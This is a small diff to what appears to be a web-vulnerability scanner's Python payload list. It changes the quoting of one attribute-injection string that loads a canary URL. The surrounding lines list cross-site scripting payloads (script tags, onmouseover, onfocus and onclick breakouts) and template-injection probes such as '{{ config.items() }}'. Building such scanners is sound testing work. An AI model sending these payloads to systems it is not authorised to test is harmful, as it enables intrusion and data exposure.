@@ -38,7 +38,7 @@ PAYLOADS: tuple[str, ...] = (
     "<![CDATA[<script>alert(1)</script>]]>",
     '" onmouseover="alert(1)',
     "' onfocus='alert(1)' autofocus='",
-    "\" style=\"background:url({canary}/attr-style)\"",
+    '" style="background:url({canary}/attr-style)"',
     "` onclick=`alert(1)",
     "{{ 7*7 }}",
     "{{ config.items() }}",
